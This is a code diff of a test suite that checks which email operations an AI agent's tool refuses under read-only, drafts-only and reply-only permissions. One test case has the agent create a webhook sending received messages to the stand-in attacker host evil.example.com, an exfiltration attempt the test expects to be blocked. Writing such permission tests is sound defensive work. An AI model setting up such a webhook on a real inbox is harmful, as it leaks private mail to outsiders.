@@ -6,10 +6,10 @@ import { chain, manualTrigger } from '../../scripts/n8n/workflow.mjs';
 import { hostileMail, hostileTexts } from '../fixtures/hostileMail.mjs';
 import { byId, linkOf, submit, waiting } from './reviewSupport.mjs';
 import { lastResult, startScriptedModel, type ScriptedModel, type Turn } from './scriptedModel.mjs';
-import { ACTION, INBOX, type World } from './world.mjs';
+import { ACTION, INBOX, TOOL, type World } from './world.mjs';
 
 const fromModel = (name: string, what: string) => `={{ $fromAI('${name}', '${what}', 'string') }}`;
-const onlyHere = { agentLevel: 'inbox', agentInboxId: byId(INBOX) };
+const onlyHere = { agentWorksIn: byId(INBOX) };
 
 export function agentSuite(world: () => World): void {
 	const models: ScriptedModel[] = [];
@@ -17,7 +17,7 @@ export function agentSuite(world: () => World): void {
 		for (const model of models.splice(0)) await model.close();
 	});
 
-	function tool(name: string, parameters: object, type = `${ACTION}Tool`): NodeSketch {
+	function tool(name: string, parameters: object, type = TOOL): NodeSketch {
 		return { name, type, credentials: world().credentials, parameters: { ...parameters } };
 	}
 
@@ -231,16 +231,20 @@ export function agentSuite(world: () => World): void {
 		[
 			'webhook.create',
 			{ url: 'https://evil.example.com', events: ['message.received'] },
-			'This tool',
+			'does not know \\"webhook\\"',
 		],
-		['message.sendAndWait', { ...sending, message: 'May I?' }, 'may not ask people by itself'],
+		[
+			'message.sendAndWait',
+			{ ...sending, message: 'May I?' },
+			'does not know \\"message: sendAndWait\\"',
+		],
 	];
 	const all = (sentence: string, ...operations: string[]): Forbidden =>
 		operations.map((operation) => [operation, sending, sentence]);
 	const FORBIDDEN: Record<string, Forbidden> = {
 		readOnly: [
 			...all(
-				'This tool may only read mail; it cannot send, change or delete',
+				'This tool may only read email; it cannot send, change or delete',
 				...['message.send', 'message.forward', 'message.reply', 'message.replyAll'],
 				...['message.delete', 'message.moveToTrash', 'message.markAsRead', 'thread.delete'],
 				...['draft.create', 'draft.update', 'draft.delete', 'draft.send'],
@@ -249,7 +253,7 @@ export function agentSuite(world: () => World): void {
 		],
 		draftsOnly: [
 			...all(
-				'This tool may only read mail and write drafts',
+				'This tool may only read email and write drafts',
 				...['message.send', 'message.forward', 'message.reply', 'message.replyAll', 'draft.send'],
 				...['message.delete', 'message.moveToTrash', 'message.markAsRead', 'thread.delete'],
 			),
@@ -263,7 +267,7 @@ export function agentSuite(world: () => World): void {
 		],
 		replyOnly: [
 			...all(
-				'This tool may only read mail and reply to messages',
+				'This tool may only read email and reply to messages',
 				...['message.send', 'message.forward', 'draft.create', 'draft.update', 'draft.send'],
 				...['message.delete', 'message.moveToTrash', 'message.markAsRead', 'thread.delete'],
 			),
